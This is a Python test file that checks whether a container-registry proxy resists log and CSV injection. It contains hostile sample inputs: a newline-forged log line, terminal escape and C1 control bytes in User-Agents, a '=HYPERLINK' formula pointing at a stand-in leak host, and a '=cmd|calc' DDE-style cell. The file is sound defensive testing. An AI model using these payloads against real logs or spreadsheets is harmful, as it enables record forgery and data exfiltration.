"""Outside text cannot forge log lines or spreadsheet formulas: a tag carrying %0a and a
User-Agent carrying a quote, a C1 control (U+009B, a terminal CSI) and invalid UTF-8 stay
inside one quoted, escaped log value; a User-Agent with ESC never reaches the log raw; and the
CSV event export neutralises cells that would start a formula."""
import csv
import io
import json
import re
import socket
import unittest

from fault_upstream import FaultUpstream
from harness import OCI_MANIFEST, ProxyTestCase, Strata, random_layer, wait_for

FORGED = "level=info msg=forged repo=evil"
ESC_AGENT = "\x1b[31mred-agent\x1b[0m"
# What a header may carry past the HTTP parser: a quote, bytes >= 0x80 (here C2 9B, U+009B,
# and a lone FF).
AGENT = 'evil-agent\xc2\x9b31m\xff" msg=spoofed'
AGENT_LOGGED = 'agent="evil-agent\\xc2\\x9b31m\\xff\\" msg=spoofed"'
FORMULA_AGENT = '=HYPERLINK("http://evil.example/?leak","click")'


def raw_get(port, target, headers):
    """One GET sent as raw bytes (no client library between the test and strata's parser);
    returns the status code."""
    lines = ["GET %s HTTP/1.1" % target, "Host: 127.0.0.1:%d" % port, "Connection: close"]
    lines += ["%s: %s" % kv for kv in headers.items()]
    with socket.create_connection(("127.0.0.1", port), timeout=30) as s:
        s.sendall(("\r\n".join(lines) + "\r\n\r\n").encode("latin-1"))
        response = b""
        while chunk := s.recv(65536):
            response += chunk
    return int(response.split(b" ", 2)[1])


class LogInjectionTest(ProxyTestCase):
    def setUp(self):
        super().setUp()
        self.upstream = FaultUpstream(self.dir).start()
        config = random_layer(1_000, "log-injection")
        config_digest = self.upstream.add_blob(config)
        manifest = json.dumps({"schemaVersion": 2, "mediaType": OCI_MANIFEST,
                               "config": {"mediaType": "application/vnd.oci.image.config.v1+json",
                                          "digest": config_digest, "size": len(config)},
                               "layers": []}).encode()
        self.upstream.add_manifest("team/app", "v1", manifest)
        self.strata = Strata(self.dir, {"fault.test": self.upstream.url},
                             config={"events": {"flush_ms": 50}}).start()

    def test_forged_tag_and_hostile_user_agent_stay_inside_one_log_value(self):
        forged_target = "/v2/fault.test/team/app/manifests/v1%0a" + FORGED.replace(" ", "%20")
        self.assertEqual(raw_get(self.strata.port, forged_target, {"X-Strata-Node": "forger"}), 400)
        # Beast refuses control bytes in header values (400); either way none may reach the log.
        raw_get(self.strata.port, "/v2/fault.test/team/app/manifests/v1", {"User-Agent": ESC_AGENT})
        self.assertEqual(raw_get(self.strata.port, "/v2/fault.test/team/app/manifests/v1",
                                 {"Accept": OCI_MANIFEST, "User-Agent": AGENT}), 200)
        # Both requests are logged once they are answered; wait for their lines, whatever form.
        # (the debug line of the first has the target still percent-encoded: no "msg=forged repo").
        wait_for(lambda: "msg=forged repo=evil" in self.strata.read_log() and "evil-agent" in self.strata.read_log(),
                 what="the request log lines")
        with open(self.strata.log_path, "rb") as f:
            raw = f.read()
        forged_lines = [line for line in raw.splitlines() if line.startswith(b"level=info")]
        self.assertEqual(forged_lines, [], "a tag's %0a started a log line of its own")
        for byte in (b"\x1b", b"\xc2\x9b", b"\xff"):
            self.assertNotIn(byte, raw, "a raw %r reached the log" % byte)
        log = raw.decode("utf-8", "replace")
        self.assertIn('ref="v1\\nlevel=info msg=forged repo=evil"', log)
        self.assertIn(AGENT_LOGGED, log)

    def test_json_log_format_keeps_every_line_one_object(self):
        self.strata.stop()
        self.strata.extra_args += ["--log-format", "json"]
        self.strata.start()
        forged_target = "/v2/fault.test/team/app/manifests/v1%0a" + FORGED.replace(" ", "%20")
        self.assertEqual(raw_get(self.strata.port, forged_target, {}), 400)
        self.assertEqual(raw_get(self.strata.port, "/v2/fault.test/team/app/manifests/v1",
                                 {"Accept": OCI_MANIFEST, "User-Agent": AGENT}), 200)
        wait_for(lambda: "evil-agent" in self.strata.read_log(), what="the request log line")
        with open(self.strata.log_path, "rb") as f:
            raw = f.read()
        for byte in (b"\x1b", b"\xc2\x9b", b"\xff"):
            self.assertNotIn(byte, raw, "a raw %r reached the log" % byte)
        lines = raw.decode("utf-8").splitlines()  # well-formed UTF-8: what is not is escaped
        started = [i for i, l in enumerate(lines) if '"message":"strata store ' in l][-1]  # this run's lines
        records = [json.loads(l) for l in lines[started:]]
        self.assertEqual({tuple(sorted(r)) for r in records}, {("level", "message", "time")})
        agent_lines = [r for r in records if "evil-agent" in r["message"]]
        self.assertEqual(len(agent_lines), 1)
        self.assertIn(AGENT_LOGGED, agent_lines[0]["message"])
        self.assertTrue(all(re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z", r["time"]) for r in records))

    def test_csv_export_neutralises_formulas_and_keeps_numbers(self):
        self.assertEqual(raw_get(self.strata.port, "/v2/fault.test/team/app/manifests/v1",
                                 {"Accept": OCI_MANIFEST, "User-Agent": FORMULA_AGENT}), 200)
        self.assertEqual(raw_get(self.strata.port, "/v2/fault.test/team/app/manifests/%3Dcmd%7Ccalc",
                                 {"X-Strata-Node": "@node"}), 400)
        r = self.strata.get("/api/v1/events?format=csv")
        self.assertEqual(r.status, 200, r.body)
        text = r.body.decode()
        rows = list(csv.DictReader(io.StringIO(text)))
        by_agent = {row["user_agent"]: row for row in rows}
        self.assertIn("'" + FORMULA_AGENT, by_agent)
        self.assertEqual(by_agent["'" + FORMULA_AGENT]["reference"], "v1")
        self.assertEqual(by_agent["'" + FORMULA_AGENT]["node"], "127.0.0.1")  # no X-Strata-Node: the client
        by_node = {row["node"]: row for row in rows}
        self.assertEqual(by_node["'@node"]["reference"], "'=cmd|calc")
        for row in rows:
            for name, cell in row.items():
                formula = cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"[+-]?[0-9.eE+-]+", cell)
                self.assertFalse(formula, "%s=%r would run as a formula" % (name, cell))
            # Numbers stay numbers.
            self.assertTrue(row["ts_ns"].isdigit() and row["http_status"].isdigit(), row)
        # The raw text has the formula only behind the quote, inside an RFC 4180 quoted cell.
        self.assertIn('"\'=HYPERLINK(""http://evil.example/?leak"",""click"")"', text)


if __name__ == "__main__":
    unittest.main()
